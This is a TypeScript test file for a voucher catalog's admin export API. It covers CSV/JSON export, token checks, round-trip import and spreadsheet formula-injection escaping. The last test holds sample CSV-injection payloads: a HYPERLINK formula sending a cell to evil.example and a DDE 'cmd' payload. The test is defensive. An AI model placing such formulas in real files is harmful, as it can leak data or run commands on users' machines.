import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { formatCatalog, parseCatalogFile } from '../../src/catalog/catalog.file.ts';
import { protectCsvCell, readCsvCell } from '../../src/shared/csv-cells.ts';
import type { CatalogService } from '../../src/catalog/catalog.service.ts';
import { createClient, loginOk } from '../helpers/api.ts';
import { ENGINES, startTestStore, type TestStore } from '../helpers/store.ts';

const ADMIN_TOKEN = 'catalog-export-admin-token-0123456789abcdef';

/** A catalog with what a file must carry: subcategories, ranges with discounts, an inactive and a demo product, quotes and line breaks. */
const CATALOG = [
  'id,name,category,subcategory,country,currency,voucher_type,supplier,active,denominations,image_url,delivery_mode,delivery_time,validity,description,redemption_instructions,terms',
  ',Steam Wallet,Gaming,PC,USA,USD,CODE,sandbox,true,10|25-500:3,https://img.example/steam.png,Email,Instant,12 months,"Top up, then play",Redeem in the client,',
  ',"Tricky, ""quoted""",Gift Cards,,GBR,GBP,CODE_WITH_PIN,sandbox,false,5.5-99.99:12.25,,,,,"line one\nline two",,Terms apply',
  ',Yen Card,Gift Cards,Japan,JPN,JPY,URL,sandbox,true,1000|5000,,,,,,,',
].join('\n');

for (const engine of ENGINES) {
  describe(`catalog export over the admin API [${engine}]`, () => {
    let store: TestStore;
    let catalog: CatalogService;
    const exportOf = (query: string, token: string | null = ADMIN_TOKEN) =>
      store.app.inject({ method: 'GET', url: `/admin/v1/catalog/export${query}`, headers: token ? { authorization: `Bearer ${token}` } : {} });

    before(async () => {
      store = await startTestStore(engine, { env: { ADMIN_TOKEN } });
      catalog = store.container.catalog.as('test');
      const parsed = parseCatalogFile(CATALOG, 'csv');
      assert.deepEqual(parsed.errors, []);
      const report = await catalog.importCatalog(parsed.records);
      assert.deepEqual(report.errors, []);
      const demo = parseCatalogFile('name,category,country,currency,denominations\nDemo Card,Gift Cards,USA,USD,20', 'csv');
      assert.deepEqual((await catalog.importCatalog(demo.records, { demo: true })).errors, []);
    });
    after(() => store.close());

    test('GET /admin/v1/catalog/export: the file of the CLI export, in JSON by default or CSV, with or without ids', async () => {
      const products = await catalog.listProducts();
      assert.equal(products.length, 4);
      for (const [query, format, ids] of [
        ['', 'json', true],
        ['?format=json', 'json', true],
        ['?format=csv', 'csv', true],
        ['?format=csv&ids=false', 'csv', false],
        ['?format=json&ids=false', 'json', false],
      ] as const) {
        const response = await exportOf(query);
        assert.equal(response.statusCode, 200, query);
        assert.match(response.headers['content-type'] as string, /^application\/json; charset=utf-8/);
        assert.deepEqual(response.json(), { format, count: products.length, file: formatCatalog(products, format, { ids }) }, query);
      }
      const json = JSON.parse((await exportOf('')).json().file);
      assert.deepEqual(Object.keys(json[0]), [
        'id',
        'name',
        'category',
        'subcategory',
        'country',
        'currency',
        'voucher_type',
        'supplier',
        'active',
        'denominations',
        'image_url',
        'delivery_mode',
        'delivery_time',
        'validity',
        'description',
        'redemption_instructions',
        'terms',
      ]);
      assert.deepEqual(json[1].denominations, [{ min_value: 5.5, max_value: 99.99, discount: 12.25 }]);
      assert.equal((await exportOf('?format=csv')).json().file.split('\n')[0], CATALOG.split('\n')[0]);
    });

    test('operator auth like every catalog admin route: no token, a wrong one or a client token is 401; a bad format is 400', async () => {
      const client = await loginOk(store, await createClient(store, { features: ['vouchers'] }));
      for (const token of [null, 'not-the-admin-token-0123456789abcdef0123', client.access_token]) {
        const response = await exportOf('', token);
        assert.equal(response.statusCode, 401);
        assert.deepEqual(response.json().error, { name: 'UnauthorizedError', code: 'UNAUTHORIZED', message: 'Authentication required' });
      }
      for (const query of ['?format=xml', '?format=', '?ids=maybe']) {
        const response = await exportOf(query);
        assert.equal(response.statusCode, 400, query);
        assert.deepEqual(response.json().error, { name: 'BadRequestError', code: 'BAD_REQUEST', message: 'Invalid query parameters' }, query);
      }
    });

    test('round trip: the export imported back (POST /admin/v1/catalog/import) changes nothing; without ids it rebuilds the catalog in another store', async () => {
      const products = await catalog.listProducts();
      for (const format of ['csv', 'json'] as const) {
        const { file } = (await exportOf(`?format=${format}`)).json();
        const parsed = parseCatalogFile(file, format);
        assert.deepEqual(parsed.errors, []);
        const response = await store.app.inject({
          method: 'POST',
          url: '/admin/v1/catalog/import',
          headers: { authorization: `Bearer ${ADMIN_TOKEN}` },
          payload: { records: parsed.records },
        });
        assert.equal(response.statusCode, 200, response.body);
        assert.deepEqual([response.json().created, response.json().updated, response.json().unchanged], [0, 0, products.length], format);
        assert.deepEqual(await catalog.listProducts(), products, format);
      }

      const fresh = await startTestStore(engine, { env: { ADMIN_TOKEN } });
      try {
        for (const format of ['csv', 'json'] as const) {
          const { file } = (await exportOf(`?format=${format}&ids=false`)).json();
          const response = await fresh.app.inject({
            method: 'POST',
            url: '/admin/v1/catalog/import',
            headers: { authorization: `Bearer ${ADMIN_TOKEN}` },
            payload: { records: parseCatalogFile(file, format).records },
          });
          assert.equal(response.statusCode, 200, response.body);
          // The second import of the same file matches every product by name: nothing changes.
          const { created, unchanged } = response.json();
          assert.deepEqual([created, unchanged], format === 'csv' ? [products.length, 0] : [0, products.length], format);
          const copy = await fresh.app.inject({
            method: 'GET',
            url: '/admin/v1/catalog/export?ids=false',
            headers: { authorization: `Bearer ${ADMIN_TOKEN}` },
          });
          assert.equal(copy.json().file, (await exportOf('?ids=false')).json().file, format);
        }
      } finally {
        await fresh.close();
      }
    });

    test('text a spreadsheet would run as a formula is exported with a leading apostrophe, and imported back to the same values', async () => {
      const formulas = {
        name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        category: "+cmd|'/C calc'!A0",
        description: '@SUM(1+1)*cmd',
        terms: "'=already quoted",
        redemption_instructions: '-2+3',
      };
      const line = `name,category,country,currency,denominations,description,terms,redemption_instructions\n${[
        formulas.name,
        formulas.category,
        'USA',
        'USD',
        '10',
        formulas.description,
        formulas.terms,
        formulas.redemption_instructions,
      ]
        .map((cell) => `"${cell.replaceAll('"', '""')}"`)
        .join(',')}`;
      // A file written by a person: the cells are taken as written (only an apostrophe before a formula's start is dropped).
      const written = parseCatalogFile(line, 'csv');
      assert.equal(written.records[0]!.fields.terms, '=already quoted');
      const imported = await catalog.importCatalog([{ line: 2, fields: { ...written.records[0]!.fields, terms: formulas.terms } }]);
      assert.deepEqual(imported.errors, []);
      const before = await catalog.listProducts();

      const { file } = (await exportOf('?format=csv')).json();
      const row = file.split('\n').find((text: string) => text.includes('HYPERLINK'))!;
      for (const cell of ['"\'=HYPERLINK(', "'+cmd|", "'@SUM(1+1)*cmd", "''=already quoted", "'-2+3"])
        assert.ok(row.includes(cell), `${cell} in ${row}`);
      assert.ok(!/(^|,)"?[=+@-]/.test(row), `no cell of ${row} starts a formula`);
      for (const number of ['-5', '2.50', '10']) assert.equal(protectCsvCell(number), number, 'a number is written as it is');
      for (const text of ['\t=1', '\r=1', 'plain', "'Tis", '']) assert.equal(readCsvCell(protectCsvCell(text)), text);

      const parsed = parseCatalogFile(file, 'csv');
      assert.deepEqual(parsed.errors, []);
      const again = await catalog.importCatalog(parsed.records);
      assert.deepEqual([again.errors, again.created, again.updated], [[], 0, 0]);
      assert.deepEqual(await catalog.listProducts(), before, 'the export imported back changes nothing');
      const product = before.find((p) => p.name === formulas.name)!;
      assert.deepEqual(
        [product.description, product.terms, product.redemption_instructions],
        [formulas.description, formulas.terms, formulas.redemption_instructions],
      );
    });
  });
}
